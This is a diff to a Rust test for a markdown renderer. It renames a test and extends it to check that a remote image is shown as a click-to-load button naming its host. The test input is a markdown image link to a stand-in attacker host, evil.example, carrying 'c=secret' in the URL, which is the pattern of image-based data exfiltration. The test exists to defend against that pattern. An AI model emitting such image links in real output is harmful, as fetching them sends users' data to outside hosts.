@@ -299,13 +299,14 @@ fn breakout_fence_stays_inside_code() {
 }
 
 #[test]
-fn remote_image_needs_a_click() {
+fn remote_image_needs_a_click_and_names_its_host() {
     let html = to_html_string(&render("![x](https://evil.example/t.png?c=secret)"));
     assert_eq!(
         html,
         "<p><span class=\"md-image\" data-src=\"https://evil.example/t.png?c=secret\">\
-         <button type=\"button\" class=\"load-image\" data-src=\"https://evil.example/t.png?c=secret\">\
-         Load image: x</button></span></p>"
+         <button type=\"button\" class=\"load-image\" data-src=\"https://evil.example/t.png?c=secret\" \
+         title=\"https://evil.example/t.png?c=secret\">Load image: x</button> \
+         <span class=\"md-image-host\">(evil.example)</span></span></p>"
     );
 }
 
